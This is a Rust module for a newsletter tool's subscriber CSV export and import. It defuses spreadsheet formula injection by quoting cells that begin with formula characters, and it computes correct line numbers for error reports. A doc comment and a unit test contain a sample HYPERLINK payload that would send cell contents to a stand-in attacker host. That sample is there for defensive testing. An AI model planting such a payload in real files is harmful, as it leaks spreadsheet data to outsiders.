//! The CSV files of `subscribers export` and `subscribers import`: cells that cannot run in a
//! spreadsheet, and rows named by the line of the file they start on.

use std::borrow::Cow;

/// What makes a cell a formula in Excel, LibreOffice and Google Sheets (OWASP, "CSV
/// Injection"): a name such as `=HYPERLINK("https://evil.example/?"&A1,"x")` would run in
/// the operator's spreadsheet and could send the neighbouring cells away.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A cell as export writes it: one that a spreadsheet would take for a formula gets a
/// leading single quote, which spreadsheets show as text (OWASP's advice).
pub(super) fn neutralize(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A cell as import reads it: the quote [`neutralize`] added is taken off again, so an
/// exported file imports back with the same addresses and names.
pub(super) fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest,
        _ => cell,
    }
}

/// Turns the csv crate's byte position of a record into the line of the file the record
/// starts on. The crate's own `line()` is the line where reading the record *began*: after a
/// CRLF line end (what spreadsheets write) that is still the previous line, whose `\n` is
/// consumed with the next record, and blank lines before a record count as its own, so a
/// bad row on line 52 was reported as line 51.
pub(super) struct LineIndex<'a> {
    text: &'a [u8],
    /// A byte offset whose line is known: positions only move forward, so counting goes on
    /// from the last one.
    offset: usize,
    line: u64,
}

impl<'a> LineIndex<'a> {
    pub fn new(text: &'a [u8]) -> Self {
        Self {
            text,
            offset: 0,
            line: 1,
        }
    }

    /// The 1-based line of the first byte of the record that starts at `position`.
    pub fn line_of(&mut self, position: Option<&csv::Position>) -> u64 {
        let Some(position) = position else {
            return self.line;
        };
        let mut start = usize::try_from(position.byte())
            .unwrap_or(usize::MAX)
            .min(self.text.len());
        // Line ends left over from before the record are not part of it.
        while matches!(self.text.get(start), Some(b'\r' | b'\n')) {
            start += 1;
        }
        if start < self.offset {
            self.offset = 0;
            self.line = 1;
        }
        let skipped = self.text.get(self.offset..start).unwrap_or_default();
        self.line += skipped.iter().filter(|b| **b == b'\n').count() as u64;
        self.offset = start;
        self.line
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_quoted_and_the_quote_comes_off_on_import() {
        for cell in [
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
            "+1",
            "-1",
            "@SUM(A1)",
            "\tx",
            "\rx",
        ] {
            let written = neutralize(cell);
            assert_eq!(written, format!("'{cell}"), "{cell:?}");
            assert_eq!(restore(&written), cell);
        }
        for cell in ["ada@example.com", "Ada", "", "'quoted", "a=b"] {
            assert_eq!(neutralize(cell), cell, "{cell:?} is left alone");
            assert_eq!(restore(cell), cell);
        }
    }
}
